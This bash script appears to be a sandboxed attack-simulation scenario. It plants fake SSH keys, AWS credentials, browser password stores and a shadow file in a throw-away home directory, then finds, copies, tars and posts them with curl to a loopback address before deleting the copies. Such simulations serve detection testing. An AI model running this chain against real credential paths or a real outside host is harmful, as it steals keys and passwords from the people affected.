#!/usr/bin/env bash
# Credential theft: planted keys, password files, cloud and browser stores in a throw-away home are found,
# read, packed and posted to loopback.
# Needs: bash, perl (perl-base), curl, tar, gzip, findutils. No root. Runs in about 3 s.
. "$(dirname "${BASH_SOURCE[0]}")/lib/common.sh"
need perl curl tar gzip find

home=$root/home/mika
mkdir -p "$root/far" "$home/.ssh" "$home/.aws" "$home/.config/chromium/Default" "$home/.mozilla/firefox/x.default" "$root/etc"
# planted, worthless
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted by a story, not a key\n-----END OPENSSH PRIVATE KEY-----\n' >"$home/.ssh/id_ed25519"
printf '[default]\naws_access_key_id = PLANTED\naws_secret_access_key = planted\n' >"$home/.aws/credentials"
printf 'planted' >"$home/.config/chromium/Default/Login Data"
printf '{"logins":[]}' >"$home/.mozilla/firefox/x.default/logins.json"
printf 'root:*:19000:0:99999:7:::\nmika:$y$planted:19000:0:99999:7:::\n' >"$root/etc/shadow"
far_side

step find "private keys and stores are looked for" find "$home" '(' -name 'id_*' -o -name 'credentials' -o -name 'Login Data' -o -name 'logins.json' ')'
step shadow "the password file of the throw-away root is read" cp "$root/etc/shadow" "$shm/s"
step key "a private key is read" cp "$home/.ssh/id_ed25519" "$shm/k"
step cloud "cloud credentials are read" cat "$home/.aws/credentials"
step browser "a browser's password store is copied" cp "$home/.config/chromium/Default/Login Data" "$shm/l"
step firefox "another browser's password store is copied" cp "$home/.mozilla/firefox/x.default/logins.json" "$shm/j"
step pack "all of it is packed" tar -czf "$shm/o.tgz" -C "$shm" s k l j
step post "and posted to loopback" curl -s -m 5 --data-binary "@$shm/o.tgz" "http://127.0.0.1:$web/in"
step shred "the copies are removed" rm -f "$shm/s" "$shm/k" "$shm/l" "$shm/j" "$shm/o.tgz"
